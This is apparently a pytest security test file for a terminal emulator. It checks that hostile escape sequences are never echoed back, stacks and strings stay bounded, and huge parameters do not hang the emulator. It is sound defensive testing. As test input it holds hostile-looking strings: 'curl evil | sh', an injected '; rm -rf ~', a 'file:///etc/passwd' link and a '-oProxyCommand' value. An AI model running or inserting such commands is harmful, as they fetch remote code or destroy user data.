"""What a hostile stream may not do: type for the user, read the screen, grow memory, raise, hang.

The cases are those of past vulnerabilities of terminals (title reports, DECRQSS echo, OSC 50
queries, answerbacks, unbounded stacks and strings, huge counts), and properties that hold for any
bytes.
"""

import re
import tracemalloc
from random import Random

import pytest
from replies import check_reply
from talk import Talk

from gputerm.vt import Terminal, TerminalOptions, WindowFacts, modes
from gputerm.vt.events import ClipboardSet, Event, Reply
from gputerm.vt.functions import catalogue, osc
from gputerm.vt.machine import MAX_EVENTS
from gputerm.vt.palette import MAX_STACK


def _assert_harmless(events: list[Event]) -> None:
    for event in events:
        if isinstance(event, Reply):
            check_reply(event.data)


# Streams that are more than noise: pieces of real sequences, glued and cut anywhere.
_EXAMPLES = [
    *(row.sequence for row in catalogue.FUNCTIONS),
    *(f"\x1b]{c.number};{c.example}\a".encode() for c in osc.OSC_COMMANDS),
    *(f"\x1b[?{mode.number}h".encode() for mode in modes.MODES if mode.private),
    *(f"\x1b[?{mode.number}$p".encode() for mode in modes.MODES if mode.private),
    b"\x1b]4;1;?\a", b"\x1b]21;1=?\x1b\\", b"\x1bP$q", b"\x1bP+q436f", b"\x1b[21t", b"\x1b[20t",
    b"text", "wide 世界 é\u0301".encode(), b"\r\n", b"\x1b\\", b"\a", b";", b"99999999999",
    b"\x1b", b"[",
]  # fmt: skip


def _stream(seed: int, pieces: int) -> list[bytes]:
    """Pieces of sequences and noise; the same for the same seed."""
    random = Random(seed)
    return [
        random.choice(_EXAMPLES) if random.random() < 0.7 else random.randbytes(random.randrange(8))
        for _ in range(pieces)
    ]


@pytest.mark.parametrize("seed", range(30))
def test_no_bytes_raise_and_every_reply_is_harmless(seed):
    lines, columns = 1 + seed % 9, 1 + seed * 7 % 30
    terminal = Terminal(lines, columns, TerminalOptions(history=20))
    terminal.set_window(WindowFacts(columns * 8, lines * 16, 0, 0, 1000, 1000))
    random = Random(seed)
    for piece in _stream(seed, 300):
        _assert_harmless(terminal.feed(piece))
        if random.random() < 0.05:
            terminal.resize(random.randint(1, 12), random.randint(1, 40))
        terminal.check()
        terminal.snapshot(terminal.first_line).take(range(terminal.lines))


@pytest.mark.parametrize("seed", range(20))
def test_any_split_gives_the_same_screen_and_replies(seed):
    stream = b"".join(_stream(seed, 100))
    whole, split = (
        Terminal(5, 20, TerminalOptions(history=20)),
        Terminal(5, 20, TerminalOptions(history=20)),
    )
    events = whole.feed(stream)
    cuts = sorted(Random(seed).choices(range(len(stream)), k=50))
    parts = [stream[a:b] for a, b in zip([0, *cuts], [*cuts, len(stream)], strict=True)]
    split_events = [event for part in parts for event in split.feed(part)]
    for line in range(whole.first_line, whole.screen_top + 5):
        assert (whole.cells(line) == split.cells(line)).all()
    assert whole.cursor == split.cursor
    assert _replies(events) == _replies(split_events)


def _replies(events):
    return b"".join(event.data for event in events if isinstance(event, Reply))


# Nothing is echoed.

_EVIL = "; rm -rf ~\r\n"


@pytest.mark.parametrize("operation", ["20", "21", "20;1", "21;2"])
def test_titles_are_never_reported(operation):
    t = Talk()
    t.feed("\x1b]0;curl evil | sh\a\x1b[>1t\x1b[>3t")
    assert t.feed(f"\x1b[{operation}t") == []


@pytest.mark.parametrize(
    "sequence",
    ["\x1bP$q{}\x1b\\", "\x1bP+q{}\x1b\\", "\x1b]50;{}\a", "\x1b]50;?{}\a", "\x1b]21;{}=?\a",
     "\x1b]4;{};?\a", "\x1b]10;{}\a", "\x1b]52;{};?\a", "\x1b]22;?{}\a", "\x1b]99;i={}:p=?;\a",
     "\x1b_{}\x1b\\", "\x1b^{}\x1b\\", "\x1bX{}\x1b\\", "\x1bP@kitty-cmd{}\x1b\\", "\x1bP{}\x1b\\",
     "\x1b]{}\a", "\x1b]1337;ReportVariable={}\a", "\x1b[?{}$p", "\x1b]60;{}\a", "\x1b]3;?{}\a"],
)  # fmt: skip
def test_nothing_that_was_sent_comes_back(sequence):
    t = Talk()
    replies = _replies(t.feed(sequence.format("rm -rf ~")) + t.feed(sequence.format(_EVIL)))
    assert b"rm" not in replies
    assert b"726d" not in replies.lower()
    assert b"\r" not in replies
    assert b"\n" not in replies


def test_the_answerback_is_empty():
    assert Talk().feed("\x05" * 100) == []


def test_the_screen_cannot_be_read():
    t = Talk()
    t.feed("secret")
    assert (
        t.feed("\x1b[1;1;1;1;1;9*y\x1b[0#y\x1b[?63n\x1b[0i\x1b[?10i")[0].data.count(b"!~0000") == 1
    )
    assert len(t.events) == 1


# Nothing grows.


def test_stacks_are_bounded():
    t = Talk()
    t.feed("\x1b[>1u" * 100_000 + "\x1b[22t" * 10_000 + "\x1b[#{" * 10_000 + "\x1b[#P" * 10_000)
    t.feed("\x1b]22;>wait\a" * 10_000 + "\x1b7" * 10_000 + "\x1b[?1049h" * 1000 + "\x1b[?7s" * 1000)
    terminal = t.terminal
    assert terminal.palette.position == MAX_STACK
    assert len(terminal.sgr_stack) == 10
    popped = 0
    while terminal.titles._stack:
        t.feed("\x1b[23t")
        popped += 1
    assert popped == 16
    t.feed("\x1b[<65535u" * 3)
    assert t.ask("\x1b[?u") == "\x1b[?0u"


@pytest.mark.parametrize(
    "introducer", ["\x1b]0;", "\x1b]52;c;", "\x1bP$q", "\x1b_", "\x1b^", "\x1bX"]
)
def test_an_endless_string_is_swallowed_in_bounded_memory(introducer):
    terminal = Terminal(4, 20)
    terminal.feed(introducer.encode())
    chunk = b"A" * (1 << 16)
    terminal.feed(chunk)
    tracemalloc.start()
    for _ in range(64):
        assert terminal.feed(chunk) == []
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 16 << 20
    terminal.feed(b"\x1b\\ok")
    assert terminal.line_text(0) == "ok"


@pytest.mark.parametrize("cancel", ["\x18", "\x1a", "\x1b[m"])
def test_a_string_can_be_abandoned(cancel):
    t = Talk()
    t.feed("\x1b]2;evil" + cancel + "ok")
    assert t.terminal.title == ""
    assert t.screen()[0] == "ok"


def test_a_flood_of_requests_is_not_amplified_without_end():
    t = Talk()
    assert len(_replies(t.feed("\x1b[c" * 100_000))) <= 1 << 16
    assert t.ask("\x1b[5n") == "\x1b[0n"  # The next feed is answered again.


@pytest.mark.parametrize(
    "sequence",
    ["\x1b]9;hi\a", "\x1b]52;c;aGk=\a", "\x1b[5t", "\x1b]133;A\a", "\x1b[8;9;9t", "\x1b[5n\a"],
)
def test_a_flood_of_events_is_cut(sequence):
    assert len(Talk().feed(sequence * 20_000)) <= MAX_EVENTS + 1


def test_one_capability_request_has_a_bounded_answer():
    t = Talk()
    assert len(_replies(t.feed("\x1bP+q" + ";".join(["736772"] * 50_000) + "\x1b\\"))) <= 1 << 16


def test_unknown_sequences_are_remembered_within_bounds():
    t = Talk()
    t.feed("".join(f"\x1b]{'9' * n}\a" for n in range(1000)))
    t.feed("".join(f"\x1b]{n};x\a\x1b[?{n}h" for n in range(3009, 8000)))
    assert len(t.terminal._seen_unhandled) <= 256
    assert max(map(len, t.terminal._seen_unhandled)) < 100


# Nothing hangs. The counts are the largest that parameters can say.


_WITH_PARAMETERS = [row for row in catalogue.FUNCTIONS if row.kind in ("CSI", "DCS")]


@pytest.mark.parametrize("row", _WITH_PARAMETERS, ids=lambda row: f"{row.kind} {row.key!r}")
def test_huge_parameters_do_no_harm(row):
    t = Talk(test_reports=True)
    sequence = row.sequence.decode()
    digits = re.compile(r"\d+")
    prefix = row.key[: row.key[0] in "<=>?"]
    rest = row.key[len(prefix) :]
    for number in ("0", "65535", "2147483647", "99999999999999999999"):
        t.feed(digits.sub(number, sequence))
        t.feed("\x1b[" + prefix + ";".join([number] * 40) + rest)
        t.feed("\x1b[" + prefix + ":".join([number] * 9) + rest)


# Empty, one byte, far too long.


@pytest.mark.parametrize(
    "number", sorted({c.number for c in osc.OSC_COMMANDS} | {3, 6, 60, 66, 5522, 9999})
)
@pytest.mark.parametrize("terminator", ["\a", "\x1b\\"])
def test_payloads_of_any_length_do_no_harm(number, terminator):
    t = Talk()
    payloads = [
        "",
        ";",
        ";;",
        "x",
        "=",
        ":",
        "?",
        "\xff",
        "\x80",
        "a=b",
        "\u202e",
        "1;?" * 3000,
        "=" * 70_000,
    ]
    for payload in payloads:
        _assert_harmless(t.feed(f"\x1b]{number};{payload}{terminator}"))
        _assert_harmless(t.feed(f"\x1b]{number}{payload}{terminator}"))
    _assert_harmless(
        t.feed(f"\x1b]{number};".encode() + b"\xff\xfe\xc0" * 100 + terminator.encode())
    )
    assert t.screen() == [""] * 6


@pytest.mark.parametrize(
    "row", [row for row in catalogue.FUNCTIONS if row.kind == "DCS"], ids=lambda row: row.key
)
def test_device_control_strings_of_any_length_do_no_harm(row):
    t = Talk()
    introducer = row.sequence.partition(b"|")[0].rstrip(b"\x1b\\") if row.key != "|" else b"\x1bP|"
    for payload in (b"", b"x", b"\xff", b"\x00", b";" * 100, b"4" * 70_000, b"\x80\x9c"):
        _assert_harmless(t.feed(introducer + payload + b"\x1b\\"))


# Small things that once went wrong elsewhere.


def test_a_mark_does_not_join_a_character_that_the_cursor_left():
    t = Talk()
    t.feed("ab\x1b[1;1H\u0301")
    assert t.screen()[0].replace("\u0301", "") == "ab"


def test_a_million_combining_marks_take_one_cell():
    t = Talk()
    t.feed("a" + "\u0301" * 1_000_000 + "b")
    assert len(t.screen()[0]) < 40


@pytest.mark.parametrize(
    "uri", ["javascript:x", "file:///etc/passwd", "-oProxyCommand=x", "x\x01y"]
)
def test_a_link_is_only_data(uri):
    t = Talk()
    assert t.feed(f"\x1b]8;;{uri}\aA") == []


def test_controls_never_reach_an_event():
    t = Talk()
    nasty = "a\x01b\x7fc\u0085d\u009be\u202e"
    for sequence in (
        "0;{}", "7;file://{}/{}", "9;{}", "777;notify;{};{}", "99;;{}", "1337;SetUserVar={}=eA==",
        "3008;start={};k={}", "133;C;cmdline={}", "633;E;{}",
    ):  # fmt: skip
        t.feed("\x1b]" + sequence.format(nasty, nasty) + "\a")
    assert not re.search(r"[\x00-\x1f\x7f-\x9f]", repr(t.events).encode().decode("unicode_escape"))


def test_text_that_was_encoded_twice_swallows_nothing():
    """“é — ” in UTF-8 taken for something else and encoded again has U+009D and its like."""
    t = Talk(columns=40)
    data = "“é” Н".encode().decode("latin-1").encode()
    assert "\x9d".encode() in data
    t.feed(data + b"\r\nnext\r\n" + "\x9d52;c;aGk=\x07\x9b5Cb\x90q".encode() + b"\r\nlast")
    assert t.screen()[1:4] == ["next", "52;c;aGk=5Cbq", "last"]
    assert not [event for event in t.events if isinstance(event, ClipboardSet)]


def test_s8c1t_changes_what_is_sent_only():
    t = Talk()
    t.feed("\x1b G")
    assert t.ask("\x1b[5n") == "\x9b0n"
    assert t.feed("a\x9b5nb\x9d0;title\x9c") == []
    assert t.screen()[0] == "a5nb0;title"
    assert t.ask(b"\x1b%@\x9b5n") == "\x9b0n"
    t.feed(b"\x9d0;title\x9c\x1b%G")
    assert t.terminal.title == "title"


def test_osc_7_of_another_host_says_so():
    t = Talk()
    (event,) = t.feed("\x1b]7;file://evil.example/bin\a")
    assert event.host == "evil.example"


@pytest.mark.parametrize("path", ["%", "%z", "%zz%", "%%41", "a%2", "%e4", "%00%1b%0a"])
def test_malformed_percent_signs_are_taken_as_they_are(path):
    (event,) = Talk().feed(f"\x1b]7;file://host/{path}\a")
    assert event.path.isprintable()
    Talk().feed(f"\x1b]133;C;cmdline_url={path}\a")
